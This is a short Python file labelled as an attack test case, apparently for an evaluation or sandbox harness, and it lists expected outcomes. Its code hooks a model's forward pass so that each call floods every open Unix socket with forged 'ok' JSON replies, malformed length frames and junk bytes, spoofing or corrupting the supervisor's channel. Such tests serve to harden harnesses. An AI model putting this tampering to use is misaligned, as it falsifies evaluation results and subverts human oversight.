# /// attack
# tries = "Escribe respuestas inventadas y basura en todos los sockets que tiene abiertos, mientras le preguntan"
# from = "none"
# expected = { a = "passed", b = "lost", c = "decided", d = "passed" }
# ///
# %%
import json, os, socket, stat, struct
mentira = json.dumps({"ok": True, "value": {"$": "tensor", "is": "0"}}).encode()
mensajes = [mentira, mentira + b"\n", struct.pack("<I", len(mentira)) + mentira, struct.pack(">I", len(mentira)) + mentira,
            struct.pack("<Q", len(mentira)) + mentira, struct.pack(">Q", 1 << 60), b"\xff" * 64, b"{" * 4096, b""]
def escribir():
    for n in range(3, 256):
        try:
            if not stat.S_ISSOCK(os.fstat(n).st_mode):
                continue
            with socket.socket(fileno=os.dup(n)) as s:
                if s.family == socket.AF_UNIX:
                    for mensaje in mensajes:
                        s.send(mensaje, socket.MSG_DONTWAIT)
        except OSError:
            pass
class Head(Head):
    def forward(self, x):
        escribir()
        return super().forward(x)
